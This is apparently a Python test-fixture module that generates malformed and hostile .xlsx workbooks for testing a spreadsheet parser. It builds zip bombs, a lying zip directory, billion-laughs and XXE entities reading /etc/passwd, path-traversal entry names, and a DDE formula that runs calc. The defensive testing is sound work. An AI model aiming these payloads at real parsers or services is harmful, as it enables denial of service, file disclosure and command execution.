"""Workbooks that are bombs, that lie about their size, that point elsewhere, that are something else."""

import random
import struct

from tests.faults.hostile.building import (
    LONG,
    SHEET,
    STRINGS,
    TITLE,
    Hostile,
    honest,
    hostile,
    packed,
    parts_of,
    rows_of,
    with_sheet,
)

LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))


@hostile
def zip_bomb(rng: random.Random) -> Hostile:
    return Hostile("x.xlsx", with_sheet(rng, rows_of(b" " * rng.randrange(55, 90) * 1_000_000)))


@hostile
def bomb_below_the_limits(rng: random.Random) -> Hostile:
    """Noise beside it keeps the ratio honest."""
    what = rng.choice((b"<row/>", b"<c/>", b"<x>", b" ", b"<row><c><v>1</v></c></row>", b"<!-- -->", b"&#65;"))
    sheet = rows_of(what * (rng.randrange(5, 20) * 1_000_000 // len(what)))
    noise = {"xl/media/image1.png": rng.randbytes(300_000)}
    return Hostile("x.xlsx", packed(parts_of(honest(rng)) | noise | {SHEET: sheet}), frozenset({TITLE}))


@hostile
def a_long_word_in_every_cell(rng: random.Random) -> Hostile:
    """Said once, and pointed at by each of them."""
    word = rng.choice((b"a", b"\xc3\xa9")) * rng.randrange(1_000, 1_000_000)
    strings = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + word + b"</t></si></sst>"
    )
    cell = b'<c t="s"><v>0</v></c>'
    sheet = rows_of((b"<row>" + cell * 20 + b"</row>") * rng.randrange(1_000, 19_000))
    noise = {"xl/media/image1.png": rng.randbytes(300_000)}
    rels = parts_of(honest(rng))["xl/_rels/workbook.xml.rels"]
    told = rels.replace(b"</Relationships>", b'<Relationship Id="rS" Type="http://schemas.openxmlformats.org/officeDocument'
        b'/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')  # fmt: skip
    parts = parts_of(honest(rng)) | {"xl/_rels/workbook.xml.rels": told}
    return Hostile("x.xlsx", packed(parts | noise | {STRINGS: strings, SHEET: sheet}))


@hostile
def bomb_in_a_bomb(rng: random.Random) -> Hostile:
    inner = packed({"bomb": b"\0" * rng.randrange(10, 30) * 1_000_000})
    return Hostile("x.xlsx", packed({f"xl/{n}.zip": inner for n in range(50)}))


@hostile
def many_parts(rng: random.Random) -> Hostile:
    return Hostile("x.xlsx", packed({f"xl/{n}.xml": b"<a/>" for n in range(rng.randrange(201, 9_000))}, stored=True))


@hostile
def a_directory_that_lies(rng: random.Random) -> Hostile:
    """Each part says that it unpacks to next to nothing."""
    package = bytearray(with_sheet(rng, rows_of(b" " * 60_000_000)))
    at = package.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", package, at + 24, rng.randrange(200))
        at = package.find(b"PK\x01\x02", at + 4)
    return Hostile("x.xlsx", bytes(package))


@hostile
def entities_that_swell(rng: random.Random) -> Hostile:
    part = rng.choice((SHEET, STRINGS, "xl/workbook.xml", "[Content_Types].xml"))
    laughing = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l11;</x>"
    return Hostile("x.xlsx", packed(parts_of(honest(rng)) | {part: laughing}))


@hostile
def entities_from_elsewhere(rng: random.Random) -> Hostile:
    where = rng.choice((b"file:///etc/passwd", b"http://127.0.0.1:9/x", b"secret.txt", b"//host/share", b"/dev/zero"))
    pointing = b'<!DOCTYPE x [<!ENTITY e SYSTEM "' + where + b'"><!ENTITY % p SYSTEM "' + where + b'">%p;]>'
    sheet = rows_of(b'<row r="1"><c t="inlineStr"><is><t>&e;</t></is></c></row>')
    return Hostile("x.xlsx", with_sheet(rng, pointing + sheet))


@hostile
def a_million_declared_rows(rng: random.Random) -> Hostile:
    dimension = b'<dimension ref="A1:XFD1048576"/><sheetData>'
    sheet = parts_of(honest(rng))[SHEET].replace(b"<sheetData>", dimension)
    return Hostile("x.xlsx", with_sheet(rng, sheet), frozenset({TITLE}))


@hostile
def two_far_corners(rng: random.Random) -> Hostile:
    far = rng.choice((b"XFD1048576", b"A1048576", b"XFD1", b"ZZZ99999999", b"AAAAAAAAAAAA1"))
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="' + far + b'"><v>1</v></c></row>'
    return Hostile("x.xlsx", with_sheet(rng, rows_of(cells)))


@hostile
def a_million_empty_rows(rng: random.Random) -> Hostile:
    rows = b"".join(b'<row r="%d"/>' % n for n in range(1, rng.randrange(300_000, 1_000_000), 3))
    return Hostile("x.xlsx", with_sheet(rng, rows_of(rows)))


@hostile
def counts_of_what_is_not_there(rng: random.Random) -> Hostile:
    strings = b'<sst count="%d" uniqueCount="%d"><si><t>x</t></si></sst>' % (
        2**32 - 1,
        rng.choice((2**31, 2**62, 10**30)),
    )
    return Hostile("x.xlsx", packed(parts_of(honest(rng)) | {STRINGS: strings}), frozenset({TITLE}))


@hostile
def strings_that_are_not_there(rng: random.Random) -> Hostile:
    index = rng.choice((b"7", b"-1", b"4294967296", b"1e9", b""))
    cells = b'<row r="1"><c r="A1" t="s"><v>' + index + b"</v></c></row>"
    return Hostile("x.xlsx", with_sheet(rng, rows_of(cells)))


@hostile
def numbers_out_of_the_world(rng: random.Random) -> Hostile:
    """In every column, dates included."""
    wild = rng.choice(
        (b"1e308", b"-1e308", b"1e-320", b"NaN", b"INF", b"9999999999", b"-1", b"2958466", b"0.99999999999")
    )
    sheet = parts_of(honest(rng))[SHEET]
    head, mark, rest = sheet.partition(b'<row r="2">')
    cells = b"".join(b'<c r="%c2" s="1"><v>%s</v></c>' % (65 + n, wild) for n in range(8))
    return Hostile(
        "x.xlsx",
        with_sheet(rng, head + mark + cells + b"</row>" + rest[rest.index(b"</row>") + 6 :]),
        frozenset({TITLE}),
    )


@hostile
def formulas(rng: random.Random) -> Hostile:
    """Their last result is what a cell says; they are never worked out."""
    what = rng.choice((b"cmd|' /C calc'!A0", b'HYPERLINK("http://x/?"&amp;A1)', b'WEBSERVICE("http://x")', b"A2"))
    cell = b'<c r="A2" t="str"><f>' + what + b"</f><v>Lu</v></c>"
    sheet = parts_of(honest(rng))[SHEET]
    head, mark, rest = sheet.partition(b'<row r="2">')
    return Hostile(
        "x.xlsx", with_sheet(rng, head + mark + cell + rest[rest.index(b"</c>") + 4 :]), frozenset({TITLE, "Lu"})
    )


@hostile
def truncated(rng: random.Random) -> Hostile:
    whole = honest(rng)
    return Hostile("x.xlsx", whole[: rng.randrange(4, len(whole) - 1)])


@hostile
def damaged(rng: random.Random) -> Hostile:
    """A few bytes turned anywhere."""
    whole = bytearray(honest(rng))
    for _ in range(rng.choice((1, 3, 30))):
        whole[rng.randrange(4, len(whole))] ^= 1 << rng.randrange(8)
    return Hostile("x.xlsx", bytes(whole), frozenset({TITLE}))


@hostile
def something_else_under_this_name(rng: random.Random) -> Hostile:
    what = rng.choice(
        (b"%PDF-1.7\n%", b"\xd0\xcf\x11\xe0" + b"\0" * 512, b"<html><table>", b"PK\x05\x06" + b"\0" * 18, b'{"a": 1}')
    )
    return Hostile("x.xlsx", what + rng.randbytes(rng.randrange(500)))


@hostile
def another_family(rng: random.Random) -> Hostile:
    repeated = b'<table:table-row table:number-rows-repeated="1048576"/>' * 9
    return Hostile(
        "x.xlsx", packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": repeated})
    )


@hostile
def paths_that_climb(rng: random.Random) -> Hostile:
    parts = {f"{rng.choice(('../', '/', 'xl/../../'))}{name}": part for name, part in parts_of(honest(rng)).items()}
    return Hostile("x.xlsx", packed(parts))


@hostile
def one_part_twice(rng: random.Random) -> Hostile:
    """Two readers may choose different ones: nobody reads what was not measured."""
    whole = honest(rng)
    twice = packed(parts_of(whole) | {SHEET[:-1] + "L": rows_of(b"<row/>" * 1000)}).replace(
        SHEET[:-1].encode() + b"L", SHEET.encode()
    )
    return Hostile("x.xlsx", twice, frozenset({TITLE}))


@hostile
def deep_elements(rng: random.Random) -> Hostile:
    depth = rng.randrange(100_000, 500_000)
    return Hostile("x.xlsx", with_sheet(rng, rows_of(b"<row>" * depth + b"</row>" * depth)))


@hostile
def an_endless_attribute(rng: random.Random) -> Hostile:
    return Hostile("x.xlsx", with_sheet(rng, rows_of(b'<row r="' + b"9" * LONG + b'"/>')))


@hostile
def other_encodings(rng: random.Random) -> Hostile:
    encoding = rng.choice(("utf-16", "utf-16-be", "utf-7", "cp037", "utf-32"))
    sheet = parts_of(honest(rng))[SHEET].decode()
    told = f'<?xml version="1.0" encoding="{encoding}"?>'
    return Hostile(
        "x.xlsx", with_sheet(rng, (told + sheet.partition("?>")[2]).encode(encoding, "replace")), frozenset({TITLE})
    )


@hostile
def no_sheet_to_see(rng: random.Random) -> Hostile:
    parts = parts_of(honest(rng))
    hidden = parts["xl/workbook.xml"].replace(b'state="visible"', b'state="veryHidden"')
    return Hostile("x.xlsx", packed(parts | {"xl/workbook.xml": hidden}))
